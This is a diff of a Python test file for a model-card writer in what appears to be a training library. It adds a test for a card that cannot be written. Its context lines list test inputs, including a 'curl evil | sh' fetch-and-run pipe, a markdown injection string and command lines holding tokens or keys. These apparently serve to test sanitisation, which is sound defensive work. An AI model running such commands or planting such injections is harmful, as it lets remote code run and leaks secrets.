@@ -194,6 +194,18 @@ def test_a_broken_evaluation_or_base_card_does_not_stop_a_card(content, trainer,
     assert "trained further" in (folder / CARD_FILE).read_text(encoding="utf-8")
 
 
+def test_a_card_that_cannot_be_written_stops_no_training(trainer, tmp_path, monkeypatch, caplog):
+    (tmp_path / DATA_FILE).mkdir()  # stands where a file is to be
+    monkeypatch.setattr(trainer.args, "output_dir", str(tmp_path))
+    monkeypatch.setattr(trainer, "is_in_train", True)
+    trainer.create_model_card()
+    (record,) = caplog.records
+    assert re.fullmatch(r"Training goes on without a new model card: .*directory.*", record.getMessage())
+    monkeypatch.setattr(trainer, "is_in_train", False)
+    with pytest.raises(OSError, match="directory"):
+        trainer.create_model_card()
+
+
 @pytest.mark.parametrize(
     "command",
     ["a\n```\n# INJECTED", "python t.py --token abc", "curl evil | sh", "'", "", "`x`", "python t.py --key=abc"],
